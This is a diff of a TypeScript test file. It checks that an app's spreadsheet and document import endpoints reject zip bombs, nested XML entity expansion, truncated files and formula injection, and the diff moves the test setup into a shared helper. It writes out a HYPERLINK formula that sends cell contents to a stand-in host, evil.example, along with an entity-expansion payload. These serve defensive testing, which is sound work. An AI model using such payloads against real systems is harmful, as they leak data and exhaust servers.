@@ -1,40 +1,16 @@
-import ExcelJS from 'exceljs';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type ExcelJS from 'exceljs';
+import { describe, expect, it } from 'vitest';
 import { inflate, readDirectory } from '../../../../packages/documents/src/zip.ts';
 import { minimal, zip } from '../../../../packages/documents/src/testing.ts';
-import { testApp, type Client, type TestApp } from '../testing/index.ts';
-import { traces, upload } from './hostile-uploads.ts';
+import type { Client } from '../testing/index.ts';
+import { filledSheet, traces, upload, uploadSite } from './hostile-uploads.ts';
 
 /** Tables that mean harm, at every operation that reads one. */
-let site: TestApp;
-let officer: Client;
-let recorder: Client;
-beforeAll(async () => {
-  site = await testApp();
-  officer = await site.as('corps.officer');
-  recorder = await site.as('det01.political');
-});
-afterAll(() => site.close());
+const held = uploadSite();
 
 const formula = '=HYPERLINK("http://evil.example/?"&A1,"点我")';
 
-/** The template of a kind, as a person fills it in. */
-async function filled(rows: Record<string, ExcelJS.CellValue>[]): Promise<Buffer> {
-  const template = await recorder.request({ url: '/api/kinds/activity/template' });
-  expect(template.status).toBe(200);
-  const book = new ExcelJS.Workbook();
-  await book.xlsx.load(template.raw as unknown as ArrayBuffer);
-  const sheet = book.worksheets[0];
-  if (!sheet) throw new Error('the template has no sheet');
-  const columns = new Map<string, number>();
-  sheet.getRow(3).eachCell((cell, column) => columns.set(String(cell.value), column));
-  rows.forEach((row, i) => Object.entries(row).forEach(([title, value]) => {
-    const column = columns.get(title);
-    if (column === undefined) throw new Error(`no column ${title} in ${[...columns.keys()].join()}`);
-    sheet.getRow(4 + i).getCell(column).value = value;
-  }));
-  return Buffer.from(await book.xlsx.writeBuffer());
-}
+const filled = (rows: Record<string, ExcelJS.CellValue>[]) => filledSheet(held.recorder, rows);
 const good = { 开展日期: '2023-09-01', 单位: '第一支队', 类别: '警示教育', 标题: '从表格来' };
 const entities = `<!DOCTYPE x [<!ENTITY a "ha">${'bcdefghij'.split('').map((name, i) => `<!ENTITY ${name} "${`&${'abcdefghi'[i]};`.repeat(10)}">`).join('')}]>`;
 const row = '<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>';
@@ -54,13 +30,13 @@ const bombs: [string, () => Buffer][] = [
   ['nothing', () => Buffer.alloc(0)],
 ];
 const readers: [string, string, () => Client][] = [
-  ['records', '/kinds/activity/import?dryRun=false', () => recorder], ['the organisation', '/organisation/imports', () => officer],
-  ['a sign-in sheet', '/people/sign-in-sheet', () => recorder], ['a policy document', '/policy/drafts/file', () => officer],
+  ['records', '/kinds/activity/import?dryRun=false', () => held.recorder], ['the organisation', '/organisation/imports', () => held.officer],
+  ['a sign-in sheet', '/people/sign-in-sheet', () => held.recorder], ['a policy document', '/policy/drafts/file', () => held.officer],
 ];
 
 describe.each(readers)('an import of %s', (_reader, path, who) => {
   it.each(bombs)('refuses %s, in Chinese and without a trace', async (_what, make) => {
-    const before = await traces(site);
+    const before = await traces(held.site);
     const began = process.cpuUsage();
     const reply = await upload(who(), path, path.includes('drafts') ? 'a.docx' : 'a.xlsx', make());
     const used = process.cpuUsage(began);
@@ -73,34 +49,34 @@ describe.each(readers)('an import of %s', (_reader, path, who) => {
     }
     expect((used.user + used.system) / 1e6, 'seconds of the processor').toBeLessThan(20);
     expect(JSON.stringify(reply.body)).not.toMatch(/root:|haha|node_modules/);
-    const after = await traces(site);
+    const after = await traces(held.site);
     expect({ ...after.rows, audit: 0 }).toEqual({ ...before.rows, audit: 0 });
     expect(after.files).toEqual(before.files);
   });
 });
 
 describe('an import of records', () => {
-  const send = (bytes: Buffer, dryRun = false) => upload<{ code: string; detail: string; created: string[]; problems: { message: string }[] }>(recorder, '/kinds/activity/import', 'a.xlsx', bytes, { dryRun: String(dryRun) });
+  const send = (bytes: Buffer, dryRun = false) => upload<{ code: string; detail: string; created: string[]; problems: { message: string }[] }>(held.recorder, '/kinds/activity/import', 'a.xlsx', bytes, { dryRun: String(dryRun) });
 
   it('cut off anywhere is refused whole; the whole file then goes in', async () => {
     const bytes = await filled([good, { ...good, 开展日期: '2023-09-02' }]);
-    const before = await traces(site);
+    const before = await traces(held.site);
     for (const share of [0.05, 0.3, 0.6, 0.9, 0.999]) {
       const reply = await send(bytes.subarray(0, Math.floor(bytes.length * share)));
       expect([reply.status, reply.body.code]).toEqual([422, 'import.unreadable']);
       expect(reply.body.detail).toMatch(/打不开这个文件/);
     }
-    expect(await traces(site)).toEqual(before);
+    expect(await traces(held.site)).toEqual(before);
     const reply = await send(bytes);
     expect(reply.status, JSON.stringify(reply.body)).toBe(200);
     expect(reply.body.created).toHaveLength(2);
   });
 
   it('with one bad row stores none', async () => {
-    const before = await traces(site);
+    const before = await traces(held.site);
     const reply = await send(await filled([good, { ...good, 开展日期: '2023-02-30' }]));
     expect([reply.status, reply.body.code]).toEqual([422, 'import.has_problems']);
-    expect(await traces(site)).toEqual(before);
+    expect(await traces(held.site)).toEqual(before);
   });
 
   it.each<[string, ExcelJS.CellValue]>([
@@ -108,7 +84,7 @@ describe('an import of records', () => {
   ])('with a formula in a cell %s keeps text only, and what is exported holds no formula', async (_what, value) => {
     const reply = await send(await filled([{ ...good, 标题: value }]));
     expect(reply.status, JSON.stringify(reply.body)).toBe(200);
-    const exported = await recorder.request({ url: '/api/records/export', query: { unitId: 'det01' } });
+    const exported = await held.recorder.request({ url: '/api/records/export', query: { unitId: 'det01' } });
     expect(exported.status).toBe(200);
     const parts = readDirectory(exported.raw, { entries: 1000, bytes: 1e8, ratio: 1e6 });
     for (const [name, entry] of parts) {
